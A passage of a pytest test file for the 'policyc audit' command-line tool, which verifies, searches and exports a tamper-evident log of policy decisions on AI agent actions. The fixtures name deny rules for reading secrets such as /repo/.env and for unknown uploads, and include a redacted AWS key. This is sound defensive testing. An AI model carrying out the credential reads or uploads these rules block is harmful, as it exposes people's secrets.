    assert "entry 3 was edited" in out and "entries intact before entry 3: 2" in out


def test_cli_show(capsys: pytest.CaptureFixture[str], state: str) -> None:
    code, out, _ = audit(capsys, "show", "dec_1", "--state", state)
    assert code == 0
    assert out.startswith("entry 1  recorded ")
    assert "session:   session-1  agent: agent-a" in out
    assert "DENY" in out and "secrets.read" in out
    assert 'reads_file("/repo/.env")' in out  # the proof tree
    code, out, _ = audit(capsys, "show", "dec_3", "--state", state, "--format", "json")
    assert code == 0
    shown = json.loads(out)
    assert shown["body"]["decision"]["decision"] == "redact" and len(shown["hash"]) == 64
    assert "[REDACTED:aws-access-key]" in shown["body"]["action"]["command"]
    code, _, err = audit(capsys, "show", "dec_none", "--state", state)
    assert code == 1 and "no entry for decision dec_none" in err
    with raw(Path(state) / DATABASE_NAME) as conn:
        edit_body(conn, seq=1)
    code, out, err = audit(capsys, "show", "dec_1", "--state", state)
    assert code == 0 and "does not match its hash" in err and "nothing happened" in out


def test_cli_search(capsys: pytest.CaptureFixture[str], state: str) -> None:
    def seqs(*args: str) -> tuple[int, list[str]]:
        code, out, _ = audit(capsys, "search", "--state", state, *args)
        return code, [line.split()[0] for line in out.splitlines()]

    assert seqs() == (0, [str(i) for i in range(1, 9)])
    assert seqs("--decision", "deny") == (0, ["1", "4", "5", "8"])
    assert seqs("--session", "session-1", "--decision", "redact") == (0, ["3", "7"])
    assert seqs("--agent", "agent-b") == (0, ["2", "4", "6", "8"])
    assert seqs("--policy", "egress.unknown_upload") == (0, ["4", "8"])
    assert seqs("--since", "2025-01-02", "--until", "2025-01-04T00:00Z") == (0, ["2", "3"])
    assert seqs("--limit", "2") == (0, ["1", "2"])
    assert seqs("--agent", "nobody") == (1, [])
    _, out, _ = audit(capsys, "search", "--state", state, "--decision", "allow")
    assert out.split()[:7] == [
        "2",
        "2025-01-02T12:00:00.000000Z",
        "allow",
        "dec_2",
        "session=session-2",
        "agent=agent-b",
        "-",
    ]
    _, out, _ = audit(capsys, "search", "--state", state, "--format", "jsonl", "--limit", "3")
    lines = [json.loads(line) for line in out.splitlines()]
    assert [line["body"]["seq"] for line in lines] == [1, 2, 3]
    for bad in (["--since", "soon"], ["--limit", "0"], ["--decision", "maybe"]):
        with pytest.raises(SystemExit) as e:
            main(["audit", "search", "--state", state, *bad])
        assert e.value.code == 2
    capsys.readouterr()


def test_cli_export(capsys: pytest.CaptureFixture[str], state: str, tmp_path: Path) -> None:
    code, out, _ = audit(capsys, "export", "--state", state)
    assert code == 0
    lines = out.encode("utf-8").splitlines()
    assert len(lines) == 8
    for line in lines:
        body = line[len(b'{"body":') : -len(b',"hash":"' + b"0" * 64 + b'"}')]
        assert sha256(body) == json.loads(line)["hash"]
    target = tmp_path / "audit.jsonl"
    code, _, err = audit(capsys, "export", "--format", "jsonl", "--state", state, "-o", str(target))
    assert code == 0 and "exported 8 entries" in err
    assert target.read_bytes().splitlines() == lines


@pytest.mark.parametrize(
    "command", [["verify"], ["show", "dec_1"], ["search"], ["export"]], ids=lambda c: c[0]
)
def test_cli_without_a_log_says_so_and_creates_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, command: list[str]
) -> None:
    missing = tmp_path / "missing"
    code, out, err = audit(capsys, *command, "--state", str(missing))
    assert code == 2 and out == ""
    assert err.startswith("policyc audit: no audit log in ") and "does not exist" in err
    assert not missing.exists()
    empty = tmp_path / "empty"
    empty.mkdir()
    assert audit(capsys, *command, "--state", str(empty))[0] == 2
    assert list(empty.iterdir()) == []
    other = StateStore.in_folder(tmp_path / "other")
    other.ensure("other", "CREATE TABLE IF NOT EXISTS other_part (x INTEGER)")
    other.close()
    code, _, err = audit(capsys, *command, "--state", str(tmp_path / "other"))
    assert code == 2 and "holds no audit log" in err
    (tmp_path / "garbage").mkdir()
    (tmp_path / "garbage" / DATABASE_NAME).write_bytes(b"not a database" * 100)
    code, _, err = audit(capsys, *command, "--state", str(tmp_path / "garbage"))
    assert code == 2 and "not a database" in err


def test_cli_state_defaults_to_dot_policyc(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    templates: list[Template],
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("POLICYC_CONFIG", raising=False)
    code, _, err = audit(capsys, "verify")
    assert code == 2 and f"no audit log in {tmp_path / '.policyc'}:" in err
    assert not (tmp_path / ".policyc").exists()
    store = StateStore.in_folder(tmp_path / ".policyc")
    fill(AuditLog(store), templates, 3)
    store.close()
    code, out, _ = audit(capsys, "verify")
    assert code == 0 and "3 entries verified" in out


def test_cli_state_follows_the_configuration(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    templates: list[Template],
) -> None:
    (tmp_path / "policyc.toml").write_text('state_dir = "var/state"\n')
    (tmp_path / "sub").mkdir()
    monkeypatch.chdir(tmp_path / "sub")  # found upward
    monkeypatch.delenv("POLICYC_CONFIG", raising=False)
    store = StateStore.in_folder(tmp_path / "var" / "state")
    fill(AuditLog(store), templates, 2)
    store.close()
    code, out, _ = audit(capsys, "verify")
    assert code == 0 and "2 entries verified" in out
    (tmp_path / "bad.toml").write_text("state_dir = 3\n")
    code, _, err = audit(capsys, "verify", "--config", str(tmp_path / "bad.toml"))
    assert code == 2 and "bad.toml: state_dir:" in err


def test_cli_audit_without_subcommand_prints_its_help(capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = audit(capsys)
    assert code == 2 and "verify" in err and "export" in err
